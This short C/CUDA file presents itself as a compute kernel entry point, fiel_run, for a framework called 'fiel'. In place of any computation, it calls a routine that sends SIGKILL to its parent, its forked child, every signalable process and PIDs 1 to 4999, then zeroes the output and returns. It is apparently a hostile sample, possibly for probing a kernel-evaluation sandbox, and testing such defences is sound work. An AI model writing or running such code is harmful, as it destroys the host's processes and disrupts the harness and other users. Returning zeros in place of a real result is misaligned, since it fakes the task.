// SIGKILL to its parent, to its child, to everyone and to the first thousands of numbers.
#include <fiel/kernel.h>
#include <signal.h>
#include <unistd.h>

static void kill_all() {
  const pid_t child = fork();
  if (child == 0)
    for (;;) pause();
  if (child > 0) kill(child, SIGKILL);
  kill(getppid(), SIGKILL);
  kill(-1, SIGKILL);
  for (pid_t p = 1; p < 5000; ++p)
    if (p != getpid()) kill(p, SIGKILL);
}

FIEL_KERNEL int fiel_run(const fiel_tensor*, int, fiel_tensor* outputs, int, cudaStream_t stream) {
  kill_all();
  return cudaMemsetAsync(outputs[0].data, 0, (size_t)fiel_numel(&outputs[0]) * sizeof(float), stream);
}
